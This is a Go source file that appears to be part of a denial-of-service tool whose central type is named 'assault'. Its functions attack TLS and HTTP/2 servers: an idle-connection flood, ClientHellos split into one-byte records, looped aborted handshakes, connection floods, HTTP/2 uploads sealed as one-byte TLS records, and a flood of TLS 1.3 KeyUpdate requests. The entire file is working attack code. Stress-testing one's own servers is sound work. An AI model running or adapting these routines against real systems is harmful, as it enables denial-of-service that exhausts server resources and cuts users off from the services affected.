package main

import (
	"bytes"
	"crypto/tls"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
)

func tcpIdle(a *assault) error {
	// Several connections for each worker: the effect of an idle flood depends on their number.
	for range 5 {
		c, err := a.dial()
		if err != nil {
			return err
		}
		defer c.Close()
		a.units.Add(1)
	}
	a.wait(time.Hour)
	return nil
}

// hello returns a complete ClientHello in one record.
func (a *assault) hello() ([]byte, error) {
	near, far := net.Pipe()
	defer far.Close()
	go func() {
		_ = tls.Client(near, a.tlsConfig("h2")).Handshake()
		near.Close()
	}()
	header := make([]byte, 5)
	if _, err := io.ReadFull(far, header); err != nil {
		return nil, err
	}
	body := make([]byte, int(header[3])<<8|int(header[4]))
	_, err := io.ReadFull(far, body)
	return append(header, body...), err
}

func tlsFragments(a *assault) error {
	hello, err := a.hello()
	if err != nil {
		return err
	}
	c, err := a.dial()
	if err != nil {
		return err
	}
	defer c.Close()
	for _, b := range hello[5:] {
		// One record for each byte (RFC 8446 5.1 allows it).
		if _, err := c.Write([]byte{22, 3, 1, 0, 1, b}); err != nil {
			return err
		}
		a.units.Add(1)
		if !a.wait(20 * time.Millisecond) {
			return nil
		}
	}
	return nil
}

func tlsAborted(a *assault) error {
	hello, err := a.hello()
	if err != nil {
		return err
	}
	for a.ctx.Err() == nil {
		c, err := a.dial()
		if err != nil {
			return err
		}
		_, err = c.Write(hello)
		if err == nil {
			_, err = io.ReadFull(c, make([]byte, 100))
		}
		c.Close()
		if err != nil {
			return err
		}
		a.units.Add(1)
	}
	return nil
}

func tlsConnections(a *assault) error {
	c, err := a.dialTLS("h2")
	if err != nil {
		return err
	}
	a.units.Add(1)
	return c.NetConn().Close()
}

// tlsTinyRecords uploads as much as every server's first windows take, and begins again on another connection.
func tlsTinyRecords(a *assault) error {
	k, err := a.openKeyed()
	if err != nil {
		return err
	}
	defer k.wire.Close()
	go func() {
		_, _ = io.Copy(io.Discard, k.wire)
		k.wire.Close()
	}()
	c := &h2{of: a, stream: 1}
	c.frames = http2.NewFramer(&c.out, nil)
	c.out.WriteString(http2.ClientPreface)
	_ = c.frames.WriteSettings()
	c.headers(c.next(), a.post(small), false)
	for range 3 {
		_ = c.frames.WriteData(1, false, make([]byte, 16<<10))
	}
	var out bytes.Buffer
	for _, b := range c.out.Bytes() {
		k.seal(&out, 23, []byte{b})
		a.units.Add(1)
		if out.Len() >= batch {
			if _, err := k.wire.Write(out.Bytes()); err != nil {
				return err
			}
			out.Reset()
		}
	}
	_, err = k.wire.Write(out.Bytes())
	return err
}

// tlsKeyUpdates uses keyed, as crypto/tls cannot send handshake messages after the handshake.
func tlsKeyUpdates(a *assault) error {
	k, err := a.openKeyed()
	if err != nil {
		return err
	}
	defer k.wire.Close()
	go func() {
		_, _ = io.Copy(io.Discard, k.wire)
		k.wire.Close()
	}()
	var out bytes.Buffer
	for a.ctx.Err() == nil {
		for out.Len() < batch {
			// update_requested (RFC 8446 4.6.3)
			k.seal(&out, 22, []byte{24, 0, 0, 1, 1})
			k.update()
			a.units.Add(1)
		}
		if _, err := k.wire.Write(out.Bytes()); err != nil {
			return err
		}
		out.Reset()
	}
	return nil
}
